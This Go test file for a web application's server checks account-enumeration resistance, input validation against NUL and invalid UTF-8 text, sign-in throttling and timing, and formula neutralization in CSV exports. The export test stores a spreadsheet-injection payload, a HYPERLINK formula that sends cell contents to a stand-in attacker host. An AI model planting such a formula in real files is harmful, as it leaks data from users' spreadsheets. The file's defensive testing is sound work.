package server_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/awaf/awaf"
	"github.com/awaf/awaf/internal/auth"
	"github.com/awaf/awaf/internal/lens"
	"github.com/awaf/awaf/internal/memtest"
	"github.com/awaf/awaf/internal/server"
	"github.com/awaf/awaf/internal/sheetcell"
)

var alertRE = regexp.MustCompile(`<p class="error" role="alert">([^<]*)</p>`)

// TestGrantDoesNotRevealAccounts has a signed-in person grant access on a workload
// of their own to an email with an account and to one without: the answers must be
// the same, and the attempt on the unknown one audited.
func TestGrantDoesNotRevealAccounts(t *testing.T) {
	f := newFixture(t)
	wid := f.other.ID // the outsider owns it
	for _, api := range []bool{false, true} {
		type answer struct {
			status   int
			location string
			errMsg   string
		}
		ask := func(email, role string) answer {
			var res *http.Response
			if api {
				res = f.do(call{method: "POST", path: fmt.Sprintf("/api/v1/workloads/%d/access", wid), as: "outsider",
					json: fmt.Sprintf(`{"email":%q,"role":%q}`, email, role)})
			} else {
				res = f.do(call{method: "POST", path: fmt.Sprintf("/w/%d/access", wid), as: "outsider",
					form: url.Values{"email": {email}, "role": {role}}})
			}
			a := answer{status: res.StatusCode, location: res.Header.Get("Location")}
			if res.StatusCode >= 400 {
				a.errMsg = readBody(t, res)
				if api {
					var e struct{ Error struct{ Message string } }
					json.Unmarshal([]byte(a.errMsg), &e)
					a.errMsg = e.Error.Message
				} else if m := alertRE.FindStringSubmatch(a.errMsg); m != nil {
					a.errMsg = m[1]
				}
			}
			return a
		}
		for _, role := range []string{"reader", "no-such-role"} {
			known := ask("victim@example.com", role)
			unknown := ask(fmt.Sprintf("nobody-%v@example.com", api), role)
			if known.status != unknown.status || known.location != unknown.location || known.errMsg != unknown.errMsg {
				t.Errorf("api=%v role %s: known email %+v, unknown email %+v: they differ", api, role, known, unknown)
			}
			if role == "reader" && known.status >= 400 {
				t.Errorf("api=%v: grant = %d", api, known.status)
			}
		}
	}
	evs, err := f.store.AuditEvents(context.Background(), awaf.AuditFilter{WorkloadID: wid})
	must(t, err)
	n := 0
	for _, e := range evs {
		if strings.HasPrefix(e.Target, "nobody-") && e.Actor.UserID == f.users["outsider"].ID {
			n++
		}
	}
	if n != 2 {
		t.Errorf("%d audit events for grants to unknown emails, want 2 (form and API)", n)
	}
}

// hostileTexts are values PostgreSQL cannot store in a text column (a NUL byte) or
// that are not text at all (invalid UTF-8).
var hostileTexts = map[string]struct{ form, json string }{
	"NUL":            {"x\x00y", `"x\u0000y"`},
	"invalid UTF-8":  {"x\xffy", "\"x\xffy\""},
	"lone surrogate": {"x\xed\xa0\x80y", `"x\ud800y"`},
}

// TestTextValidatedAtTheEdge sends every write route, signed in as a site
// administrator, its usual body with one text field at a time made hostile, and the
// sign-in and set-up forms the same while signed out: each must answer 400 naming the
// field, on SQLite and on PostgreSQL alike, and never 500.
func TestTextValidatedAtTheEdge(t *testing.T) {
	for _, database := range []string{"sqlite", "postgres"} {
		t.Run(database, func(t *testing.T) {
			f := newFixtureOn(t, database)
			tried := 0
			check := func(what, field string, res *http.Response) {
				t.Helper()
				tried++
				body := readBody(t, res)
				if res.StatusCode != http.StatusBadRequest {
					t.Errorf("%s: status %d, want 400: %.300s", what, res.StatusCode, body)
					return
				}
				if !strings.Contains(body, field) {
					t.Errorf("%s: the answer does not name the field %q: %.300s", what, field, body)
				}
			}
			for _, rt := range f.srv.Routes() {
				method, path := f.fill(rt.Pattern)
				if method == http.MethodGet || method == http.MethodDelete || strings.HasSuffix(path, "/evidence") ||
					path == "/admin/lenses" || path == "/api/v1/lenses" || path == "/setup" {
					continue // no text fields, or file uploads (their parsers report problems with places)
				}
				form, js := f.bodyFor(method, path)
				for kind, h := range hostileTexts {
					if js != "" {
						var m map[string]any
						if err := json.Unmarshal([]byte(js), &m); err != nil {
							t.Fatal(err)
						}
						for k, v := range m {
							if _, ok := v.(string); !ok {
								continue
							}
							raw, _ := json.Marshal(m[k])
							body := strings.Replace(js, `"`+k+`":`+string(raw), `"`+k+`":`+h.json, 1)
							res := f.do(call{method: method, path: path, as: "admin", json: body})
							check(fmt.Sprintf("%s %s field %s with %s", method, path, k, kind), k, res)
						}
					}
					fields := []string{}
					for k := range form {
						fields = append(fields, k)
					}
					if path == "/signin" {
						fields = []string{"email", "password", "next"}
					}
					for _, k := range fields {
						bad := url.Values{}
						for kk, vv := range form {
							bad[kk] = vv
						}
						bad.Set(k, h.form)
						res := f.do(call{method: method, path: path, as: "admin", form: bad})
						check(fmt.Sprintf("%s %s field %s with %s", method, path, k, kind), k, res)
					}
				}
			}
			// Signed out: the sign-in form.
			for kind, h := range hostileTexts {
				for _, k := range []string{"email", "password"} {
					b := &browser{t: t, h: f.h, cookies: map[string]string{}}
					tok := b.csrf("/signin")
					form := url.Values{"csrf": {tok}, "email": {"owner@example.com"}, "password": {password}}
					form.Set(k, h.form)
					check("signed-out sign-in field "+k+" with "+kind, k, b.do("POST", "/signin", form).Result())
				}
			}
			// A path segment and a query parameter.
			for kind := range hostileTexts {
				res := f.do(call{method: "PUT", path: fmt.Sprintf("/api/v1/workloads/%d/answers/q%%00x", f.w.ID), as: "admin", json: `{"selected":[],"note":"n","version":-1}`})
				check("question id in the path with NUL ("+kind+")", "question", res)
				res = f.do(call{method: "GET", path: fmt.Sprintf("/w/%d/compare?from=%%ff", f.w.ID), as: "admin"})
				check("query parameter with invalid UTF-8", "from", res)
				break
			}
			// Uploads: evidence JSON is checked at the edge like any JSON body; a lens
			// file is YAML, whose parser refuses such text with the line.
			ev := `{"version":1,"tool":{"name":"awaf\u0000x"},"findings":[]}`
			res := f.do(call{method: "POST", path: fmt.Sprintf("/api/v1/workloads/%d/evidence", f.w.ID), as: "admin", json: ev})
			check("evidence upload with NUL", "tool.name", res)
			for kind, h := range hostileTexts {
				y := strings.Replace(teamLens("9.0.0"), "name:", "name: "+h.form, 1)
				res := f.do(call{method: "POST", path: "/api/v1/lenses", as: "admin", json: y})
				check("lens upload with "+kind, "", res)
			}
			if tried < 40 {
				t.Errorf("only %d hostile requests tried", tried)
			}
		})
	}
}

// signInServer is a server with the real argon2id cost, so that memory and timing are
// what production sees, and a throttle that never locks.
func signInServer(t *testing.T, limits server.Limits, others int) (http.Handler, *awaf.User, string) {
	t.Helper()
	db := openStore(t, "sqlite", nil)
	a := auth.New(db, nil)
	a.Throttle = awaf.ThrottlePolicy{Max: 1 << 30, Window: time.Minute, Lock: time.Minute}
	a.Warm()
	srv, err := server.New(server.Config{Store: db, Auth: a, Lens: lens.BuiltinByID, DefaultLens: lens.BuiltinID, Limits: limits})
	must(t, err)
	hash, err := auth.HashPassword(password, auth.DefaultParams)
	must(t, err)
	u := &awaf.User{Email: "known@example.com", PasswordHash: hash}
	must(t, db.CreateUser(context.Background(), awaf.Actor{Name: "test"}, u))
	for i := range others { // known0@example.com, ...
		must(t, db.CreateUser(context.Background(), awaf.Actor{Name: "test"}, &awaf.User{Email: fmt.Sprintf("known%d@example.com", i), PasswordHash: hash}))
	}
	_, cookie, err := a.OpenSession(context.Background(), u.ID)
	must(t, err)
	return srv.Handler(), u, cookie
}

// postSignIn posts the sign-in form signed out, with a matching double-submit token.
func postSignIn(h http.Handler, email, pw string) *httptest.ResponseRecorder {
	const tok = "0123456789abcdef0123456789abcdef0123"
	form := url.Values{"csrf": {tok}, "email": {email}, "password": {pw}}
	req := httptest.NewRequest("POST", "/signin", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(&http.Cookie{Name: "awaf_csrf", Value: tok})
	req.RemoteAddr = "203.0.113.9:1234"
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

// TestSignInBurstIsBounded sends 60 sign-ins with unknown emails at once, as the
// outside test did (it drove the server from 80 MB to 1.23 GB): the hashes in flight
// are bounded, the rest are refused with 429 and Retry-After, and the heap grows by
// at most a few argon2id blocks, not one per request.
func TestSignInBurstIsBounded(t *testing.T) {
	h, _, cookie := signInServer(t, server.Limits{}, 0)
	const burst = 60
	// Meanwhile a signed-in person reads their workloads, one request after another.
	var slowest time.Duration
	reads := 0
	done := make(chan struct{})
	readerDone := make(chan struct{})
	go func() {
		defer close(readerDone)
		for {
			select {
			case <-done:
				return
			default:
			}
			req := httptest.NewRequest("GET", "/workloads", nil)
			req.AddCookie(&http.Cookie{Name: "awaf_session", Value: cookie})
			rec := httptest.NewRecorder()
			start := time.Now()
			h.ServeHTTP(rec, req)
			slowest = max(slowest, time.Since(start))
			reads++
			if rec.Code != http.StatusOK {
				t.Errorf("signed-in read: %d", rec.Code)
				return
			}
			time.Sleep(5 * time.Millisecond)
		}
	}()
	codes := make([]int, burst)
	retry := make([]string, burst)
	use := memtest.Measure(func() {
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i := range burst {
			wg.Go(func() {
				<-start
				rec := postSignIn(h, fmt.Sprintf("nobody%d@example.com", i), "wrong password "+strconv.Itoa(i))
				codes[i], retry[i] = rec.Code, rec.Header().Get("Retry-After")
			})
		}
		close(start)
		wg.Wait()
	})
	close(done)
	<-readerDone
	refused, denied := 0, 0
	for i, c := range codes {
		switch c {
		case http.StatusTooManyRequests:
			refused++
			if n, err := strconv.Atoi(retry[i]); err != nil || n <= 0 {
				t.Errorf("429 without a usable Retry-After: %q", retry[i])
			}
		case http.StatusUnauthorized:
			denied++
		default:
			t.Errorf("sign-in %d: status %d", i, c)
		}
	}
	perHash := uint64(auth.DefaultParams.Memory) << 10
	n := runtime.GOMAXPROCS(0)
	// The hashes in flight, the garbage of as many finished ones before the collector
	// runs, and some room.
	bound := uint64(3*n+2) * perHash
	t.Logf("GOMAXPROCS %d: %d refused (429), %d answered (401); heap peak +%d MiB, bound %d MiB (one hash: %d MiB); %d signed-in reads meanwhile, slowest %v",
		n, refused, denied, use.Peak>>20, bound>>20, perHash>>20, reads, slowest.Round(time.Millisecond))
	if refused == 0 {
		t.Error("no sign-in was refused: the hashing is not bounded")
	}
	if denied == 0 {
		t.Error("no sign-in was answered")
	}
	if use.Peak > bound {
		t.Errorf("heap grew by %d MiB, more than %d MiB", use.Peak>>20, bound>>20)
	}
}

// TestSignInTimingSameForUnknownEmails signs in one at a time with wrong passwords,
// alternating a known and an unknown email: the times must be close, so that they do
// not tell which accounts exist.
func TestSignInTimingSameForUnknownEmails(t *testing.T) {
	const rounds = 21
	h, _, _ := signInServer(t, server.Limits{}, rounds)
	var known, unknown []time.Duration
	for i := range rounds {
		// Each email once, so that both kinds start their failure count afresh, and
		// each kind first in turn, so that the collector's work after one hash does not
		// always fall on the same kind.
		pair := []string{fmt.Sprintf("known%d@example.com", i), fmt.Sprintf("nobody%d@example.com", i)}
		if i%2 == 1 {
			pair[0], pair[1] = pair[1], pair[0]
		}
		for _, email := range pair {
			start := time.Now()
			rec := postSignIn(h, email, "wrong password")
			d := time.Since(start)
			if rec.Code != http.StatusUnauthorized {
				t.Fatalf("%s: status %d", email, rec.Code)
			}
			if strings.HasPrefix(email, "known") {
				known = append(known, d)
			} else {
				unknown = append(unknown, d)
			}
		}
	}
	// The machine is shared: other work only adds time, so the fastest of each kind
	// is the cleanest measure of the work itself; the medians are logged too.
	sorted := func(ds []time.Duration) []time.Duration {
		sort.Slice(ds, func(i, j int) bool { return ds[i] < ds[j] })
		return ds
	}
	k, n := sorted(known), sorted(unknown)
	ratio := float64(n[0]) / float64(k[0])
	t.Logf("sign-in, fastest / median: known email %v / %v, unknown email %v / %v (ratio of the fastest %.2f)",
		k[0].Round(time.Millisecond/10), k[len(k)/2].Round(time.Millisecond/10), n[0].Round(time.Millisecond/10), n[len(n)/2].Round(time.Millisecond/10), ratio)
	if ratio < 0.67 || ratio > 1.5 {
		t.Errorf("unknown emails take %.2f× the time of known ones", ratio)
	}
}

// TestExportsNeutralizeFormulas saves a note that is a formula and reads it back
// through every CSV the server serves: the report, the backlogs and the audit log.
func TestExportsNeutralizeFormulas(t *testing.T) {
	f := newFixture(t)
	note := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	res := f.do(call{method: "PUT", path: fmt.Sprintf("/api/v1/workloads/%d/answers/%s", f.w.ID, f.question), as: "owner",
		json: fmt.Sprintf(`{"selected":[],"note":%q,"version":-1}`, note)})
	if res.StatusCode != http.StatusOK {
		t.Fatalf("save: %d %s", res.StatusCode, readBody(t, res))
	}
	for _, path := range []string{"/w/%d/export/csv", "/w/%d/audit.csv", "/w/%d/backlog/ado", "/w/%d/backlog/github", "/w/%d/backlog/jira"} {
		p := fmt.Sprintf(path, f.w.ID)
		res := f.do(call{method: "GET", path: p, as: "owner"})
		body := readBody(t, res)
		if res.StatusCode != http.StatusOK {
			t.Errorf("%s: %d", p, res.StatusCode)
			continue
		}
		r := csv.NewReader(strings.NewReader(body))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Errorf("%s: %v", p, err)
			continue
		}
		for i, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && c != "-----------" && !sheetcell.Number(c) {
					t.Errorf("%s record %d: a live formula cell %.60q", p, i+1, c)
				}
			}
		}
		if strings.Contains(p, "export") {
			if !strings.Contains(body, `'=HYPERLINK`) {
				t.Errorf("%s: the neutralized note is missing", p)
			}
		}
	}
}
